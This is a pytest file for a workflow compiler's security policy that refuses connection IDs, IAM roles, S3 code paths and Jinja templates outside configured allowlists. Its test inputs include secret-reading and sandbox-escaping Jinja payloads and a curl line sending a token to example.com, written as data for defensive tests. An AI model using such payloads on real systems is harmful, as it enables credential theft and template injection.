"""The deployment's policy: what rows may reach is refused by default and accepted once allowed."""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

import pytest

from lambda_compiler import settings as settings_module
from lambda_compiler.compiler import CompileResult, compile_dags
from lambda_compiler.config import Allowlist, CompilerConfig, ConfigError
from lambda_compiler.problems import ProblemCode
from lambda_compiler.row_jinja import jinja_refusal
from lambda_compiler.settings import Settings, SettingsError
from lambda_compiler.snapshot import snapshot_from_json
from tests.rowkit import job, scheduler, task

BASE = CompilerConfig(python_module_prefixes=("etl",), allow_bash=True)
ROLE = "arn:aws:iam::123456789012:role/emr-serverless-jobs"
EMR = {
    "application_id": "00fabc1234567890",
    "execution_role_arn": ROLE,
    "entry_point": "s3://analytics-code/spark/job.py",
}
GLUE = {"job_name": "clickstream-raw-to-parquet"}
DATA_API = {"sql": ["SELECT 1"], "workgroup_name": "wg", "database": "dev"}
OTHER_SECRET = "arn:aws:secretsmanager:eu-west-1:111122223333:secret:etl-admin-XyZ"
SECRETS_JINJA = {"allow_secrets_jinja": True}
_DEFAULT_ALLOWLISTS = [
    f.default for f in dataclasses.fields(CompilerConfig) if isinstance(f.default, Allowlist)
]


def _allowing(field: str, *patterns: str) -> dict[str, Allowlist]:
    default = getattr(CompilerConfig(), field)
    return {field: Allowlist(default.variable, patterns, default.prefixes)}


def _compile(
    tasks: list[dict[str, Any]],
    config: CompilerConfig,
    job_params: dict[str, Any] | None = None,
    schedulers: list[dict[str, Any]] = (),  # type: ignore[assignment]
) -> CompileResult:
    rows = {
        "mwaa_task": tasks,
        "mwaa_job": [job("1", ",".join(t["task_id"] for t in tasks), job_params=job_params)],
        "mwaa_scheduler": list(schedulers),
    }
    return compile_dags(snapshot_from_json(rows), config=config)


# (case id, task_type, task_params, job_params, refused field, setting named, what allows it)
REFUSED = [
    ("sql-conn-id", "SQL", {"conn_id": "prod_payments", "sql": "SELECT 1"}, None,
     "task_params.conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "prod_*")),
    ("sql-conn-id-chosen-by-jinja", "SQL", {"conn_id": "{{ dag_run.conf['c'] }}", "sql": "x"},
     None, "task_params.conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "*")),
    ("redshift-conn-id", "REDSHIFT-SQL", {"conn_id": "prod", "sql": "SELECT 1"}, None,
     "task_params.conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "prod")),
    ("redshift-data-aws-conn-id", "REDSHIFT-SQL", {**DATA_API, "aws_conn_id": "aws_admin"}, None,
     "task_params.aws_conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "aws_*")),
    ("redshift-secret-arn", "REDSHIFT-SQL", {**DATA_API, "secret_arn": OTHER_SECRET}, None,
     "task_params.secret_arn", "DYNADAG_ALLOWED_REDSHIFT_SECRET_ARNS",
     _allowing("redshift_secret_arns", "arn:aws:secretsmanager:*:111122223333:secret:etl-*")),
    ("emr-execution-role", "EMR-SERVERLESS-SPARK",
     {**EMR, "execution_role_arn": "arn:aws:iam::123456789012:role/admin"}, None,
     "task_params.execution_role_arn", "DYNADAG_ALLOWED_IAM_ROLE_ARNS",
     _allowing("iam_role_arns", "arn:aws:iam::123456789012:role/admin")),
    ("emr-entry-point", "EMR-SERVERLESS-SPARK", {**EMR, "entry_point": "s3://elsewhere/x.py"},
     None, "task_params.entry_point", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://elsewhere/")),
    ("emr-entry-point-bucket-boundary", "EMR-SERVERLESS-SPARK",
     {**EMR, "entry_point": "s3://analytics-code-other/spark/x.py"}, None,
     "task_params.entry_point", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://analytics-code-other/")),
    ("emr-spark-jars", "EMR-SERVERLESS-SPARK",
     {**EMR, "spark_submit_parameters": "--conf a=b --jars s3://analytics-code/spark/a.jar,s3://x/e.jar"},
     None, "task_params.spark_submit_parameters", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://analytics-code/", "s3://x/")),
    ("emr-spark-conf-py-files", "EMR-SERVERLESS-SPARK",
     {**EMR, "spark_submit_parameters": "--conf a=1 -c spark.submit.pyFiles=s3://x/e.zip"}, None,
     "task_params.spark_submit_parameters", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://analytics-code/", "s3://x/")),
    ("emr-spark-packages", "EMR-SERVERLESS-SPARK",
     {**EMR, "spark_submit_parameters": "--packages=org.evil:payload:1.0"}, None,
     "task_params.spark_submit_parameters", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "*")),
    ("emr-overrides-spark-jars", "EMR-SERVERLESS-SPARK",
     {**EMR, "configuration_overrides": {"applicationConfiguration": [
         {"classification": "spark-defaults", "properties": {"spark.jars": "s3://x/e.jar"}}]}},
     None, "task_params.configuration_overrides", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://analytics-code/", "s3://x/")),
    ("emr-aws-conn-id", "EMR-SERVERLESS-SPARK", {**EMR, "aws_conn_id": "aws_admin"}, None,
     "task_params.aws_conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "aws_admin")),
    ("glue-job-name", "GLUE", {"job_name": "drop-everything"}, None, "task_params.job_name",
     "DYNADAG_ALLOWED_GLUE_JOBS", _allowing("glue_jobs", "drop-*")),
    ("glue-script-location", "GLUE", {**GLUE, "script_args": {"--scriptLocation": "s3://x/e.py"}},
     None, "task_params.script_args", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://x/")),
    ("glue-extra-py-files", "GLUE",
     {**GLUE, "script_args": {"--day": "{{ ds }}", "--extra-py-files": "s3://x/a.py,s3://x/b.py"}},
     None, "task_params.script_args", "DYNADAG_ALLOWED_S3_CODE_PREFIXES",
     _allowing("s3_code_prefixes", "s3://x/")),
    ("glue-aws-conn-id", "GLUE", {**GLUE, "aws_conn_id": "aws_admin"}, None,
     "task_params.aws_conn_id", "DYNADAG_ALLOWED_CONN_IDS", _allowing("conn_ids", "aws_admin")),
    ("slack-conn-id", "SQL", {"conn_id": "redshift_default", "sql": "SELECT 1"},
     {"alerts": {"slack_conn_id": "redshift_default"}}, "job_params.alerts.slack_conn_id",
     "DYNADAG_ALLOWED_SLACK_CONN_IDS", _allowing("slack_conn_ids", "slack_*", "redshift_default")),
    ("jinja-conn-attribute", "REDSHIFT-SQL",
     {"sql": "INSERT INTO t VALUES ('{{ conn.crm_postgres.password }}')"}, None,
     "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-conn-item", "REDSHIFT-SQL", {"sql": ["SELECT 1", "SELECT '{{conn['x'].password}}'"]},
     None, "task_params.sql[1]", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-var-value", "REDSHIFT-SQL", {"sql": "SELECT '{{ var.value.api_key }}'"}, None,
     "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-var-json", "SQL",
     {"conn_id": "redshift_default", "sql": "SELECT 1", "parameters": {"k": "{{ var.json.k }}"}},
     None, "task_params.parameters.k", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-statement-alias", "REDSHIFT-SQL",
     {"sql": "{% set c = conn %}SELECT '{{ c.x.password }}'"}, None, "task_params.sql",
     "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-do-statement", "REDSHIFT-SQL", {"sql": "{% do var.value.get('x') %}SELECT 1"}, None,
     "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-macros-module", "REDSHIFT-SQL", {"sql": "SELECT '{{ macros.uuid.os.environ }}'"},
     None, "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-task-hook", "REDSHIFT-SQL",
     {"sql": "SELECT '{{ ti.task.get_db_hook().get_connection('x').password }}'"}, None,
     "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-unparsable", "REDSHIFT-SQL", {"sql": "SELECT '{{ var.value.x '"}, None,
     "task_params.sql", "not valid Jinja", SECRETS_JINJA),
    ("jinja-include", "REDSHIFT-SQL", {"sql": "{% include 'secrets.sql' %}"}, None,
     "task_params.sql", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-in-bash", "BASH", {"bash_command": "curl -d '{{ var.value.token }}' example.com"},
     None, "task_params.bash_command", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
    ("jinja-in-python-kwargs", "PYTHON",
     {"python_callable": "etl.load.run", "op_kwargs": {"key": "{{ conn.x.password }}"}}, None,
     "task_params.op_kwargs.key", "DYNADAG_ALLOW_SQL_SECRETS_JINJA", SECRETS_JINJA),
]  # fmt: skip


@pytest.mark.parametrize(
    ("task_type", "params", "job_params", "field", "setting", "allowing"),
    [case[1:] for case in REFUSED],
    ids=[case[0] for case in REFUSED],
)
def test_a_row_outside_the_policy_is_refused_until_the_setting_allows_it(
    task_type, params, job_params, field, setting, allowing
):
    # GIVEN a task outside the default policy, beside a healthy job
    tasks = [task("5", "t", task_type=task_type, task_params=params)]
    # WHEN compiled under the default policy
    result = _compile(tasks, BASE, job_params)
    # THEN exactly that attribute is refused, naming the setting to change
    (problem,) = result.problems
    table = "mwaa_job" if field.startswith("job_params") else "mwaa_task"
    assert (problem.ref.table, problem.field, problem.code) == (
        table,
        field,
        ProblemCode.NOT_ALLOWED,
    )
    assert setting in problem.message
    assert result.dags["job-job_1"].source is None
    # AND once the deployment allows it, the same row compiles
    allowed = _compile(tasks, dataclasses.replace(BASE, **allowing), job_params)
    assert allowed.dags["job-job_1"].ok, allowed.problems


def test_an_omitted_connection_id_is_checked_as_the_default_it_stands_for():
    tasks = [task("5", "t", task_type="REDSHIFT-SQL", task_params={"sql": "SELECT 1"})]
    only_warehouse = dataclasses.replace(BASE, **_allowing("conn_ids", "warehouse"))
    (problem,) = _compile(tasks, only_warehouse).problems
    assert problem.code is ProblemCode.NOT_ALLOWED
    assert "conn_id is not given, so the default connection 'redshift_default'" in problem.message
    assert "DYNADAG_ALLOWED_CONN_IDS: warehouse" in problem.message
    assert _compile(tasks, BASE).dags["job-job_1"].ok


def test_scheduler_run_conf_may_not_read_secrets():
    # GIVEN a scheduler passing a variable in the conf of the run it triggers
    sched = scheduler(
        "1", "1", schedule_job_configs={"1": {"conf": {"region": ["{{ var.value.region }}"]}}}
    )
    result = _compile([task("5")], BASE, schedulers=[sched])
    (problem,) = result.dags["schedule-sched_1"].problems
    assert problem.field == "schedule_job_configs.1.conf.region[0]"
    assert problem.code is ProblemCode.NOT_ALLOWED
    assert result.dags["job-job_1"].ok  # the job itself is unaffected
    allowed = _compile([task("5")], CompilerConfig(allow_secrets_jinja=True), schedulers=[sched])
    assert allowed.dags["schedule-sched_1"].ok


@pytest.mark.parametrize(
    "text",
    [
        "SELECT '{{ ds }}', '{{ ds_nodash }}', '{{ data_interval_end }}'",
        "SELECT '{{ macros.ds_add(ds, -7) }}' -- {# a comment #}",
        "SELECT '{{ macros.datetime.now().year }}'",
        "SELECT '{{ ti.xcom_pull(task_ids='extract') }}'",
        "SELECT '{{ dag_run.conf.get('day', ds) }}', '{{ params.table }}'",
        "{% for d in [ds, ts] %}SELECT '{{ d }}' {{ loop.index }};{% endfor %}",
        "{% macro q(x) %}'{{ x }}'{% endmacro %}SELECT {{ q(ds) }}",
        "SELECT data #>> '{a,b}' FROM t",
    ],
)
def test_jinja_that_reads_plain_values_is_accepted_by_default(text):
    assert jinja_refusal(text) is None


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ ''.__class__ }}", "'__class__'"),
        ("{{ ds|attr('__class__') }}", "'__class__'"),
        ("{% if false %}{% set task = 1 %}{% endif %}{{ task }}", "rebinds"),
        ("{{ task.owner }}", "'task'"),
        ("{{ ti|attr('task') }}", "'ti'"),
        ("{% import 'm.sql' as m %}", "{% import %}"),
    ],
)
def test_jinja_reaching_objects_beyond_plain_values_is_refused(text, words):
    refusal = jinja_refusal(text)
    assert refusal is not None and words in refusal


def test_python_callable_path_may_not_go_through_a_private_module():
    tasks = [task("5", "t", task_type="PYTHON", task_params={"python_callable": "etl._os.system"})]
    (problem,) = _compile(tasks, BASE).problems
    assert problem.field == "task_params.python_callable"
    assert "'_os' is private" in problem.message


@pytest.mark.parametrize(
    ("environ", "field", "patterns"),
    [
        ({}, "conn_ids", ("redshift_default", "aws_default", "crm_postgres", "reporting_postgres")),
        ({"DYNADAG_ALLOWED_CONN_IDS": " "}, "conn_ids", CompilerConfig().conn_ids.patterns),
        ({"DYNADAG_ALLOWED_CONN_IDS": "etl_*, redshift_default,"}, "conn_ids",
         ("etl_*", "redshift_default")),
        ({"DYNADAG_ALLOWED_SLACK_CONN_IDS": "*"}, "slack_conn_ids", ("*",)),
        ({"DYNADAG_ALLOWED_IAM_ROLE_ARNS": "arn:aws:iam::111122223333:role/etl-*"},
         "iam_role_arns", ("arn:aws:iam::111122223333:role/etl-*",)),
        ({"DYNADAG_ALLOWED_S3_CODE_PREFIXES": "s3://code/spark/,s3://code/glue/"},
         "s3_code_prefixes", ("s3://code/spark/", "s3://code/glue/")),
        ({"DYNADAG_ALLOWED_GLUE_JOBS": "etl-*"}, "glue_jobs", ("etl-*",)),
        ({"DYNADAG_ALLOWED_REDSHIFT_SECRET_ARNS": "arn:aws:secretsmanager:*:*:secret:etl-*"},
         "redshift_secret_arns", ("arn:aws:secretsmanager:*:*:secret:etl-*",)),
    ],
)  # fmt: skip
def test_allowlists_come_from_the_environment_and_unset_means_the_default(environ, field, patterns):
    assert getattr(CompilerConfig.from_env(environ), field).patterns == patterns


def test_star_allows_any_value_even_one_chosen_at_run_time():
    config = CompilerConfig.from_env({"DYNADAG_ALLOWED_CONN_IDS": "*"})
    assert config.conn_ids.allows("anything") and config.conn_ids.allows("{{ params.c }}")
    assert not CompilerConfig().conn_ids.allows("{{ 'redshift_default' }}")


def test_secrets_jinja_is_off_unless_the_variable_says_true():
    assert not CompilerConfig.from_env({}).allow_secrets_jinja
    assert CompilerConfig.from_env({"DYNADAG_ALLOW_SQL_SECRETS_JINJA": "true"}).allow_secrets_jinja


@pytest.mark.parametrize(
    ("environ", "words"),
    [
        ({"DYNADAG_ALLOW_SQL_SECRETS_JINJA": "sometimes"},
         "DYNADAG_ALLOW_SQL_SECRETS_JINJA must be true or false"),
        ({"DYNADAG_ALLOWED_S3_CODE_PREFIXES": "s3://code"},
         "DYNADAG_ALLOWED_S3_CODE_PREFIXES: 's3://code' must end with '/'"),
        ({"DYNADAG_ALLOWED_S3_CODE_PREFIXES": "code/spark/"},
         "DYNADAG_ALLOWED_S3_CODE_PREFIXES: 'code/spark/' does not start with 's3://'"),
        ({"DYNADAG_ALLOWED_IAM_ROLE_ARNS": "etl-role"},
         "DYNADAG_ALLOWED_IAM_ROLE_ARNS: 'etl-role' does not start with 'arn:'"),
        ({"DYNADAG_ALLOWED_REDSHIFT_SECRET_ARNS": "etl-secret"},
         "DYNADAG_ALLOWED_REDSHIFT_SECRET_ARNS: 'etl-secret' does not start with 'arn:'"),
    ],
)  # fmt: skip
def test_a_malformed_policy_setting_names_the_variable(environ, words):
    with pytest.raises(ConfigError, match=words):
        CompilerConfig.from_env(environ)
    with pytest.raises(SettingsError, match=words):
        Settings.from_env({"DYNADAG_BUCKET": "b", **environ})


def test_every_policy_default_is_documented_in_settings_and_the_readme():
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    for allowlist in _DEFAULT_ALLOWLISTS:
        default = ",".join(allowlist.patterns)
        assert allowlist.variable in settings_module.__doc__
        assert f"`{default}`" in settings_module.__doc__, allowlist.variable
        assert f"`{allowlist.variable}` | `{default}`" in readme
